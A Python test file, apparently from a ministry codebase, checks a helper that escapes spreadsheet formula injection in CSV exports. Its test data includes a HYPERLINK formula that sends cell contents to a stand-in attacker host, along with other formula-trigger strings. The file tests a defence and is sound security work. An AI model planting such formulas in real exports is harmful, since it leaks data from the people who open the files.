"""Formula injection in CSV/XLSX exports (issue 13 §5): one helper for every export."""

from __future__ import annotations

import io
from datetime import date
from decimal import Decimal

import pytest

from ministerie.bestanden.celveilig import VeiligeCsv, veilige_cel, veilige_rij


@pytest.mark.parametrize(
    "tekst",
    [
        '=HYPERLINK("http://aanvaller.example/?x="&A1,"klik")',
        "+1+2",
        "-2+3",
        "@SUM(A1:A9)",
        "\tx",
        "\r=1+1",
        "=1",
    ],
)
def test_formules_krijgen_een_apostrof(tekst: str) -> None:
    assert veilige_cel(tekst) == "'" + tekst


@pytest.mark.parametrize(
    "waarde",
    ["Woningbouw", "", "-12,50", "+31", "-3", "1.234,56", 12, Decimal("-1.5"), date(2026, 1, 2), None],
)
def test_gewone_waarden_blijven_zoals_ze_zijn(waarde: object) -> None:
    assert veilige_cel(waarde) == waarde


def test_csv_schrijver_beveiligt_elke_cel() -> None:
    uit = io.StringIO()
    VeiligeCsv(uit, delimiter=";").writerows([["=1+1", 5, "gewoon"], veilige_rij(["@x"])])
    assert uit.getvalue().splitlines() == ["'=1+1;5;gewoon", "'@x"]
